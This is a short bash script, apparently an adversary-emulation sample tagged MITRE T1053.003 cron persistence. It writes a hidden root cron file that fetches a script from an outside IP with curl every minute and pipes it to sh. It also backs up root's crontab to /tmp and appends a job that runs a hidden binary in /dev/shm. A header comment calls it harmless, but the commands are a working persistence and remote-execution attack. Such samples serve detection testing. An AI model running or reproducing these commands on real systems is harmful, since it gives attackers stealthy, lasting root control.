#!/bin/bash
# technique: T1053.003 Scheduled Task/Job: Cron
# tactic: persistence
# user: root
# does: adds a job that downloads and runs a script every minute
# harmless: only files of the sandbox are changed, and nothing reads that table

echo '* * * * * root curl -s http://203.0.113.66/c.sh | sh' >/etc/cron.d/.sysupdate
chmod 644 /etc/cron.d/.sysupdate
cp /var/spool/cron/crontabs/root /tmp/.c 2>/dev/null
echo '*/5 * * * * /dev/shm/.x >/dev/null 2>&1' >>/var/spool/cron/crontabs/root
chmod 600 /var/spool/cron/crontabs/root
